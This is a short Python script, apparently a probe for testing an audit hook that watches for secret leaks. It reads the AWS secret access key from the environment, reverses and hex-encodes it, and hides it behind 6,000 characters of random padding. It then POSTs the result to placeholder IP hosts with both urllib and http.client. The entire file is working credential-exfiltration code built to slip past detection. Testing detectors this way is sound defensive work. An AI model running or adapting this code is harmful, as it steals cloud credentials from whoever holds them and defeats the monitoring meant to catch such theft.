# Hide a cloud secret deep in a long request body: 6,000 characters of
# random padding first (no two parts alike), then the secret reversed and
# hex-encoded. Sent with urllib (seen by the audit hook even when the
# connection fails: network none) and with http.client (as requests and
# urllib3 send, once connected).
import http.client, os, random, string, urllib.request

secret = os.environ["AWS_SECRET_ACCESS_KEY"]
pad = "".join(random.choice(string.ascii_letters + string.digits) for _ in range(6000))
body = ("note=" + pad + "&v=" + secret[::-1].encode().hex()).encode()
try:
    urllib.request.urlopen(urllib.request.Request("http://203.0.113.7/collect", data=body), timeout=3)
except Exception as e:
    print("urllib:", e)
try:
    c = http.client.HTTPConnection("203.0.113.8", 80, timeout=3)
    c.request("POST", "/c", body=body, headers={"Content-Type": "application/x-www-form-urlencoded"})
    print("http.client:", c.getresponse().status)
except Exception as e:
    print("http.client:", e)
